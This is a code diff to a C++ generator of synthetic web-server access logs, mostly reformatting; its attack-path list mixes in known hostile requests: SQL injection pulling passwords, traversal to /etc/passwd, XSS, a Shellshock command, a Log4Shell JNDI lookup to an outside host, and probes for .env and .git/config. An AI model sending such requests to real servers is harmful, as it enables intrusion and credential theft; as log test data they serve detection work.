@@ -7,7 +7,6 @@
 #include <cstdint>
 #include <cstdio>
 #include <cstdlib>
-#include <cstring>
 #include <string>
 #include <string_view>
 #include <vector>
@@ -32,7 +31,8 @@ constexpr std::string_view kAgents[] = {
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
     "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
     "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
-    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.80 Mobile Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.80 Mobile "
+    "Safari/537.36",
     "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
     "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
     "curl/8.5.0",
@@ -40,11 +40,16 @@ constexpr std::string_view kAgents[] = {
 constexpr std::string_view kWords[] = {"node",    "article", "images", "themes", "products", "about",  "search", "blog",
                                        "archive", "contact", "user",   "cart",   "news",     "events", "files",  "team"};
 constexpr std::string_view kEndings[] = {"", "", "/", ".html", ".css", ".js", ".png", ".jpg", ".svg", ".woff2"};
-constexpr std::string_view kAttacks[] = {
-    "/index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", "/../../../../etc/passwd", "/wp-login.php", "/.env",
-    "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/cgi-bin/test.cgi?x=() { :; }; /bin/bash -c id",
-    "/?x=${jndi:ldap://198.51.100.7/a}", "/phpmyadmin/index.php", "/.git/config", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"};
-constexpr std::string_view kMonths[] = {"May"};
+constexpr std::string_view kAttacks[] = {"/index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+                                         "/../../../../etc/passwd",
+                                         "/wp-login.php",
+                                         "/.env",
+                                         "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+                                         "/cgi-bin/test.cgi?x=() { :; }; /bin/bash -c id",
+                                         "/?x=${jndi:ldap://198.51.100.7/a}",
+                                         "/phpmyadmin/index.php",
+                                         "/.git/config",
+                                         "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"};
 constexpr std::uint32_t kPaths = 4000;
 constexpr std::uint32_t kAttackEvery = 200;
 constexpr double kZipfExponent = 0.9;
@@ -57,7 +62,7 @@ void append_number(std::string& out, std::uint64_t number, int width = 0) {
 }
 
 std::string address(std::uint32_t number) {
-  // Spread over the unicast space; a bijection, so that numbers and addresses are as many.
+  // An odd factor is a bijection; folding the first octet into the unicast space costs some, none below a million.
   std::uint32_t bits = number * 2654435761u;
   bits = (bits & 0x00FFFFFF) | (1 + (bits >> 24) % 126 + 64 * (bits >> 31)) << 24;
   std::string out;
@@ -98,9 +103,7 @@ int main(int argc, char** argv) {
     const bool turn = line % 4 == 0 && line / 4 < addresses;
     const auto rank = static_cast<std::uint32_t>(std::pow(random.unit(), power) * addresses);
     out += address(turn ? static_cast<std::uint32_t>(line / 4) : std::min(rank, addresses - 1));
-    out += " - - [18/";
-    out += kMonths[0];
-    out += "/2026:";
+    out += " - - [18/May/2026:";
     const std::uint64_t second = line / 60;  // 60 requests a second; a day's worth, then over again
     append_number(out, second / 3600 % 24, 2);
     out += ':';
